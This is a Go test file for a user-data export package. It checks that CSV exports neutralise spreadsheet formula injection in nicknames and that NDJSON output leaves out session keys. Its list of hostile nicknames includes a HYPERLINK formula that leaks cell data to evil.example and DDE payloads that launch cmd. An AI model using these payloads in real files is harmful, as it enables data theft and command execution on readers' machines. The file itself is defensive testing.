package segment

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/wxid/wxid/ent"
)

// hostile are nicknames a user may choose to attack whoever opens the CSV
// in a spreadsheet, or to break its quoting.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	`a,b "quoted", and
a line break`,
	`"=1+1"`,
	` =leading space`,
	`普通的昵称`,
	`+8613800138000`,
}

func TestDefuse(t *testing.T) {
	cases := map[string]string{
		"":                "",
		"alice":           "alice",
		"=1+1":            "'=1+1",
		"+1+1":            "'+1+1",
		"-1":              "'-1",
		"@A1":             "'@A1",
		"\tx":             "'\tx",
		"\rx":             "'\rx",
		"+":               "'+",
		"+8613800138000":  "+8613800138000", // a phone number with its country prefix
		"+86 138":         "'+86 138",
		"a=1":             "a=1",
		"https://x/a.png": "https://x/a.png",
	}
	for in, want := range cases {
		require.Equal(t, want, Defuse(in), "%q", in)
	}
}

// TestCSVHostileNicknames: every nickname survives RFC 4180 quoting
// exactly (a strict reader gets the same cell back), and no cell starts
// with a character that makes a spreadsheet run it.
func TestCSVHostileNicknames(t *testing.T) {
	var out bytes.Buffer
	w := bufio.NewWriter(&out)
	enc := newEncoder(CSV)
	require.NoError(t, enc.begin(w))
	now := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	for i, nick := range hostile {
		u := &ent.User{ID: 1000 + i, Nickname: &nick, CreatedAt: now, UpdatedAt: now}
		u.Edges.SetOpenIds([]*ent.OpenID{{Appid: "wxa", Openid: "o1"}, {Appid: "wxb", Openid: "o2"}})
		require.NoError(t, enc.row(w, u))
	}
	require.NoError(t, w.Flush())
	require.True(t, strings.HasSuffix(out.String(), "\r\n"), "CRLF line ends")

	r := csv.NewReader(&out)
	records, err := r.ReadAll()
	require.NoError(t, err)
	require.Equal(t, columns, records[0])
	require.Len(t, records, len(hostile)+1)
	for i, nick := range hostile {
		rec := records[i+1]
		require.Len(t, rec, len(columns))
		cell := rec[7]
		// encoding/csv writes line breaks inside a cell as CRLF (a strict
		// reader gives LF back) and drops a lone CR.
		want := strings.ReplaceAll(Defuse(nick), "\r", "")
		require.Equal(t, want, cell, "the nickname, defused, round-trips")
		require.Equal(t, strings.ReplaceAll(nick, "\r", ""), strings.TrimPrefix(cell, "'"), "nothing but the apostrophe is added")
		for _, c := range rec {
			if c != "" && c != "+8613800138000" {
				require.NotContains(t, "=+-@\t\r", string(c[0]), "cell %q of row %d", c, i)
			}
		}
		require.Equal(t, "wxa:o1 wxb:o2", rec[2])
		require.Equal(t, "2026-01-02T03:04:05Z", rec[9])
	}
}

// TestNDJSONRow: a row holds the admin view's fields and nothing else;
// the end line follows the rows.
func TestNDJSONRow(t *testing.T) {
	var out bytes.Buffer
	w := bufio.NewWriter(&out)
	enc := newEncoder(NDJSON)
	now := time.Date(2026, 1, 2, 3, 4, 5, 0, time.FixedZone("CST", 8*3600))
	nick, phone := "=evil", "+8613800138000"
	u := &ent.User{ID: 12884901889, Nickname: &nick, PhoneNumber: &phone, CreatedAt: now, UpdatedAt: now, Disabled: true}
	u.Edges.SetUnionID(&ent.UnionID{Unionid: "u1"})
	u.Edges.SetOpenIds([]*ent.OpenID{{Appid: "wxa", Openid: "o1", SessionKey: []byte("secret-session-key")}})
	require.NoError(t, enc.row(w, u))
	require.NoError(t, enc.end(w, ending{Count: 1, Complete: true, After: "12884901889"}))
	require.NoError(t, w.Flush())
	lines := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n")
	require.Len(t, lines, 2)
	var got map[string]any
	require.NoError(t, json.Unmarshal([]byte(lines[0]), &got))
	keys := make([]string, 0, len(got))
	for k := range got {
		keys = append(keys, k)
	}
	require.ElementsMatch(t, columns, keys)
	require.Equal(t, "12884901889", got["id"])
	require.Equal(t, "=evil", got["nickname"], "JSON needs no defusing")
	require.Equal(t, "2026-01-01T19:04:05Z", got["createdAt"], "UTC")
	require.Equal(t, []any{map[string]any{"appId": "wxa", "openId": "o1"}}, got["openIds"])
	require.NotContains(t, out.String(), "secret-session-key")
	require.JSONEq(t, `{"end":{"count":1,"complete":true,"after":"12884901889"}}`, lines[1])
}
